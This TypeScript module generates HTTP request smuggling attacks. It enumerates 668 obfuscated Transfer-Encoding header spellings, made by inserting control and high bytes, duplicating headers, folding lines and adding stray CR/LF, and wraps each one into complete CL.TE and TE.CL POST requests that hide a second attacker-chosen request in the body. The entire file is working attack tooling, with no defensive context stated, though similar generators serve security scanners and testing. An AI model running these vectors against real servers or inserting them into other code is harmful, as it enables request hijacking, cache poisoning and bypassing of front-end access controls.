/** Bytes that some peer strips, folds or treats as a terminator: controls, space, and all beyond ASCII. */
const BYTES = [...numbersFrom(0x00, 0x20), ...numbersFrom(0x7f, 0xff)].map((code) =>
  String.fromCharCode(code),
);

const PLACES: readonly ((byte: string) => string)[] = [
  (byte) => `Transfer-Encoding${byte}: chunked`,
  (byte) => `Transfer-Encoding:${byte}chunked`,
  (byte) => `Transfer-Encoding: chunked${byte}`,
  (byte) => `${byte}Transfer-Encoding: chunked`,
];

const BY_HAND = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer_Encoding: chunked',
  'Transfer.Encoding: chunked',
  'Transfer Encoding: chunked',
  'Content-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n : chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
];

/** 668 spellings of a transfer coding that some peers recognize and others ignore. */
export const GADGETS: readonly string[] = [...PLACES.flatMap((place) => BYTES.map(place)), ...BY_HAND];

/** A request whose body hides another request if two peers parse its head differently. */
interface Smuggle {
  readonly target: string;
  /** A whole request. */
  readonly hidden: string;
  /** Header lines of both. */
  readonly lines: string;
}

/**
 * Returns every gadget in both orders: the first peer uses the length and the second the coding, or the
 * reverse.
 */
export function smugglingVectors({ target, hidden, lines }: Smuggle): readonly string[] {
  const clTe = `0\r\n\r\n${hidden}`;
  const teCl = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const chunkLine = teCl.indexOf('\n') + 1;
  return GADGETS.flatMap((gadget) => [
    `POST ${target} HTTP/1.1\r\n${lines}Content-Length: ${clTe.length}\r\n${gadget}\r\n\r\n${clTe}`,
    `POST ${target} HTTP/1.1\r\n${lines}${gadget}\r\nContent-Length: ${chunkLine}\r\n\r\n${teCl}`,
  ]);
}

function numbersFrom(first: number, last: number): readonly number[] {
  return Array.from({ length: last - first + 1 }, (_, at) => first + at);
}
